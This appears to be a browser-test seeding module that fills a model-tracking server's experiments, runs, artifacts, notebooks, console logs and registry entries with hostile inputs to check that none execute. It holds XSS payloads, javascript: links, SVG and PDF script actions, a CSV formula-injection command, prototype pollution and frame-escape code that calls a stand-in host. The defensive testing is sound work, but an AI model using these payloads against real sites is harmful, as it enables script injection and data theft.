"""Fills a server with scripts wherever people can write something: none of them may ever run."""

from __future__ import annotations

import base64
import io
import json
from contextlib import closing
from typing import NamedTuple
from urllib.parse import quote

import pyarrow
import pyarrow.parquet
from tests.browser.seed import Wire, pairs, point
from tests.browser.seed_files import pdf, put

ELSEWHERE = "http://elsewhere.invalid"
CODE = "window.top.attacked=1;window.attacked=1;alert(1)"
SCRIPT = f"<script>{CODE}</script>"
IMAGE = f'<img src=x onerror="{CODE}">'
REMOTE = f'<img src="{ELSEWHERE}/seen.png"><script src="{ELSEWHERE}/x.js"></script>'
ALL = f"\"'>{SCRIPT}{IMAGE}<svg onload={CODE}>"
LINK = f"javascript:{CODE}//"
MARKDOWN = f"""# {ALL}

{SCRIPT}

<iframe src="{LINK}"></iframe>

[a]({LINK}) [b](<java\nscript:{CODE}>) [c](data:text/html,{quote(SCRIPT)}) [d][e] <{LINK}>
[f](&#106;avascript:{CODE}) ![g]({LINK}) ![h]({ELSEWHERE}/seen.png) ![i](x" onerror="{CODE})

[e]: {LINK}

| {IMAGE} |
| - |
| {SCRIPT} |

```html"><script>{CODE}</script>
{SCRIPT}
```
"""
#: Tries every way out of a frame that runs scripts, then tells that it ran.
ESCAPES = f"""<!doctype html><p id="told">no script ran</p>{IMAGE}{REMOTE}<script>
const tries = [
  () => {{ window.top.attacked = 1 }},
  () => {{ window.parent.document.title = "attacked" }},
  () => localStorage.setItem("attacked", "1"),
  () => document.cookie = "attacked=1",
  () => window.open("{ELSEWHERE}/opened"),
  () => window.top.location = "{ELSEWHERE}/top",
  () => fetch("{ELSEWHERE}/fetched").catch(() => 0),
  () => fetch("/api/2.0/mlflow/experiments/search", {{method: "POST"}}).catch(() => 0),
  () => navigator.sendBeacon("{ELSEWHERE}/beacon"),
  () => new WebSocket("ws://elsewhere.invalid/socket"),
  () => alert(1),
];
for (const each of tries) {{ try {{ each() }} catch {{}} }}
document.getElementById("told").textContent = "scripts ran";
</script>"""
LEAVES = f"<p>leaving</p><script>location = '{ELSEWHERE}/left'</script>"
PLOTLY = f"""<div id="plot"></div>{REMOTE}
<script>Plotly.newPlot("plot", [{{"x": [1], "text": "{CODE}"}}]); {CODE}</script>"""
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{CODE}" width="9" height="9">
<script>{CODE}</script><image href="{ELSEWHERE}/seen.png"/><a href="{LINK}"><rect width="9"
height="9"/></a><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{IMAGE}</body>
</foreignObject></svg>"""


class Attacked(NamedTuple):
    """Address and ids of what was filled in."""

    address: str
    experiment_id: str
    run_id: str
    child_run_id: str
    model: str
    webhook_id: str


def fill_attacks(address: str) -> Attacked:
    with closing(Wire(address)) as wire:
        experiment_id = wire.create_experiment(f"experiment {ALL}", note=ALL)
        tags = {
            "mlflow.note.content": MARKDOWN,
            "mlflow.source.git.commit": "0" * 40,
            "mlflow.source.git.repoURL": f"javascript://github.com/%0a{CODE}",
            "mlflow.source.git.branch": ALL,
            "mlflow.loggedImages": "True",
            "millstream.end.reason": ALL,
            "millstream.end.traceback": f"Traceback\n{ALL}",
            "team": ALL,
        }
        run_id = wire.create_run(experiment_id, f"run {ALL}", 0, **tags)
        parent = {"mlflow.parentRunId": run_id}
        child_run_id = wire.create_run(experiment_id, f"child {ALL}", 1, **parent)
        wire.log(run_id, {"rate": ALL}, [point("loss", 0.5, step) for step in range(3)])
        wire.send("POST", "/api/v1/runs/console/append", json.dumps(console(run_id)).encode())
        wire.post("runs/log-inputs", run_id=run_id, datasets=[dataset()])
        wire.finish(run_id, 0)
        for path, content in files().items():
            put(wire, experiment_id, run_id, quote(path), content)
            put(wire, experiment_id, child_run_id, quote(path), content + b" ")
        model = f"model {IMAGE}".replace("/", "")
        webhook_id = fill_webhook(wire)
        wire.post(
            "registered-models/create", name=model, description=MARKDOWN, tags=pairs({"a": ALL})
        )
        source = f"runs:/{run_id}/model"
        wire.post(
            "model-versions/create", name=model, source=source, run_id=run_id, description=MARKDOWN
        )
        live(wire, model, run_id)
    return Attacked(address, experiment_id, run_id, child_run_id, model, webhook_id)


def console(run_id: str) -> dict[str, object]:
    """Lines that attack as text, within colours, and by sequences that terminals act upon."""
    texts = [
        ALL,
        f"\x1b[31m{SCRIPT}\x1b[38;2;1;2;3m{IMAGE}\x1b[0m",
        f"\x1b]8;;{LINK}\x07{IMAGE}\x1b]8;;\x07",
        f"\x1b]0;{SCRIPT}\x07\x1b[31;background:url({ELSEWHERE}/seen.png)m{REMOTE}",
    ]
    lines = [{"number": number, "text": text} for number, text in enumerate(texts)]
    return {"run_id": run_id, "process": IMAGE, "lines": lines}


def fill_webhook(wire: Wire) -> str:
    answer = wire.post(
        "webhooks",
        name=f"webhook {IMAGE}",
        url=f"https://elsewhere.invalid/{quote(ALL, safe='<>=()')}",
        description=ALL,
        status="DISABLED",
        events=[{"entity": "REGISTERED_MODEL", "action": "CREATED"}],
    )
    return str(answer["webhook"]["webhook_id"])


def live(wire: Wire, model: str, run_id: str) -> None:
    """A second version, its moves, a request and a gate, all with texts that attack."""

    def send(method: str, path: str, **body: object) -> None:
        wire.send(method, f"/api/v1/{path}", json.dumps(body).encode())

    who = {"user_id": IMAGE, "comment": ALL}
    wire.post(
        "model-versions/create",
        name=model,
        source=f"runs:/{run_id}/model",
        run_id=run_id,
        tags=pairs({"b": ALL}),
        **who,
    )
    stage = "Canary"
    send("PUT", "stages", stages=[{"name": stage}, {"name": "Shut", "protected": True}])
    wire.post("model-versions/transition-stage", name=model, version="1", stage=stage, **who)
    wire.post("registered-models/alias", name=model, alias="best", version="1", **who)
    send("POST", "transition-requests", name=model, version="2", stage="Shut", **who)
    gate = {"gate": f"gate {IMAGE}"[:64], "rule": "metric_threshold", "metric": "loss"}
    rule = {"comparison": "<", "threshold": 0.1, "stages": [stage]}
    send("POST", "gates", name=model, gate={**gate, **rule}, **who)


def dataset() -> dict[str, object]:
    columns = [{"type": ALL, "name": ALL}]
    return {
        "dataset": {
            "name": ALL[:100],
            "digest": "<b>1</b>",
            "source_type": "http",
            "source": json.dumps({"url": LINK}),
            "schema": json.dumps({"mlflow_colspec": columns}),
            "profile": json.dumps({ALL: ALL}),
        },
        "tags": [{"key": "mlflow.data.context", "value": ALL}],
    }


def files() -> dict[str, bytes]:
    name = "<img src=x onerror=window.top.attacked=1>"
    texts = {
        f"{name}.txt": ALL,
        f"{name}/inner.html": ESCAPES,
        "code.py": f"x = '{ALL}'",
        "code.xml": DRAWING,
        "drawing.svg": DRAWING,
        "escapes.html": ESCAPES,
        "formulas.csv": f'=HYPERLINK("{LINK}"),{SCRIPT}\n=cmd|"/c calc"!A1,{IMAGE}\n',
        "film.mp4": ESCAPES,
        "leaves.html": LEAVES,
        "model/MLmodel": f"flavors:\n  {json.dumps(ALL)}:\n    loader_module: {json.dumps(ALL)}\n",
        "model/model.pkl": f"\0{ESCAPES}",
        "no_pdf.pdf": ESCAPES,
        "no_picture.png": ESCAPES,
        "notes.md": MARKDOWN,
        "plain.json": json.dumps({ALL: [ALL, {"__proto__": {"attacked": 1}}]}),
        "plotly.html": PLOTLY,
        "rows.tsv": f"{ALL}\t{SCRIPT}\n{LINK}\t{IMAGE}\n",
        "settings.yaml": f"a: {json.dumps(ALL)}\n",
        "sound.mp3": ESCAPES,
        f"images/{name.replace('/', '~')}+step+1+timestamp+1+{'ab' * 16}.png": DRAWING,
    }
    found = {path: text.encode() for path, text in texts.items()}
    code = f"app.alert\\(1\\); this.submitForm\\('{ELSEWHERE}'\\);"
    action = f"/OpenAction << /S /JavaScript /JS ({code}) >>"
    found["acting.pdf"] = pdf(1, action)
    found["notebook.ipynb"] = notebook()
    found["rows.parquet"] = parquet()
    image = {"type": "image", "filepath": LINK, "compressed_filepath": f"{ELSEWHERE}/seen.png"}
    found["table.json"] = json.dumps({"columns": [ALL], "data": [[ALL], [image]]}).encode()
    return found


def parquet() -> bytes:
    content = io.BytesIO()
    pyarrow.parquet.write_table(pyarrow.table({ALL: [ALL, IMAGE]}), content)
    return content.getvalue()


def notebook() -> bytes:
    html = f"{ALL}{REMOTE}<table onclick={CODE}><tr><td><a href='{LINK}'>x</a></td></tr></table>"
    drawing = base64.b64encode(DRAWING.encode()).decode()
    outputs = [
        {"output_type": "display_data", "data": data}
        for data in (
            {"text/html": html},
            {"application/javascript": CODE},
            {"image/svg+xml": DRAWING},
            {"image/png": drawing},
            {"text/markdown": MARKDOWN},
            {"text/plain": ALL},
        )
    ]
    cells = [
        {"cell_type": "markdown", "source": MARKDOWN},
        {"cell_type": "code", "source": ALL, "outputs": outputs, "execution_count": 1},
        {"cell_type": "raw", "source": ALL},
    ]
    about = {"language_info": {"name": f"python{ALL}"}}
    return json.dumps({"nbformat": 4, "metadata": about, "cells": cells}).encode()
